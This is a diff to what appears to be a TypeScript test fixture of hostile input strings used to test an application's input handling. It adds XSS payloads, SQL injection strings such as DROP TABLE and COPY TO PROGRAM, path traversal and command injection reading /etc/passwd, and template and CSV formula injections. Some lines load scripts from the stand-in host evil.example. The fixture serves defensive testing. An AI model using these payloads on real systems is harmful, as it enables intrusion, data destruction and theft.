@@ -4,6 +4,7 @@ const scripts = String.raw`
 <script>alert(1)</script>
 <ScRiPt>alert(1)</sCrIpT>
 <script src=//evil.example/x.js></script>
+<script>alert(1)//
 <<script>alert(1);//<</script>
 </script><script>alert(1)</script>
 </title><script>alert(1)</script>
@@ -16,14 +17,17 @@ const scripts = String.raw`
 <script type="module">import('//evil.example')</script>
 <script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>
 <img src=x onerror=alert(1)>
+<img/src/onerror=alert(1)>
 <IMG SRC=JaVaScRiPt:alert(1)>
 <img src="jav&#x09;ascript:alert(1);">
 <svg onload=alert(1)>
+<svg/onload=alert(1)>
 <svg><animate onbegin=alert(1) attributeName=x dur=1s>
 <svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">go</text></a></svg>
 <svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x">
 <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
 <iframe src="javascript:alert(1)"></iframe>
+<iframe srcdoc="<script>alert(1)</script>"></iframe>
 <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
 <base href="//evil.example/">
 <link rel=stylesheet href="//evil.example/x.css">
@@ -53,6 +57,7 @@ ${'$'}{alert(1)}
 {{constructor.constructor('alert(1)')()}}
 #{7*7}
 <%= 7*7 %>
+{%25 raw %25}
 {"__proto__":{"polluted":true}}
 __proto__
 [object Object]
@@ -61,16 +66,19 @@ undefined
 
 const queries = String.raw`
 ' OR '1'='1
+' OR 1=1 --
 '; DROP TABLE enquiries; --
 ' UNION SELECT ciphertext, key_id FROM enquiries --
 1; ATTACH DATABASE '/etc/passwd' AS x; --
 '; COPY enquiries TO PROGRAM 'id'; --
 ' || pg_sleep(10) --
+admin'--
 %' AND 1=0 UNION ALL SELECT 1 --
 $1
 :name
 \'; DELETE FROM rate_limits; --
 ../../../../etc/passwd
+file:///etc/passwd
 | cat /etc/passwd
 $(cat /etc/passwd)
 =cmd|' /C calc'!A0
@@ -115,7 +123,7 @@ const characters = [
 
 const lines = (text: string) => text.split('\n').filter((line) => line !== '');
 
-/** None has NUL or half a character, which are refused. */
+/** There are more than a hundred, none with NUL or half a character, which are refused. */
 export const hostileTexts: readonly string[] = [
   ...lines(scripts),
   ...lines(queries),
